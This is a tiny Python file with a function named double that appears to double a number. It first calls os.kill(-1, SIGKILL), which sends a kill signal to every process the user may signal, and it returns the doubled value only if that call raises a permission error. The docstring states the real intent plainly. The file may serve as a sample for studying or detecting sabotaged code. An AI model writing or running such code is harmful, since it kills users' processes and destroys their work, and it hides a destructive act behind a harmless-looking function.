"""Kill every process that may be killed."""

import os
import signal


def double(x):
    try:
        os.kill(-1, signal.SIGKILL)
    except PermissionError:
        return 2 * x
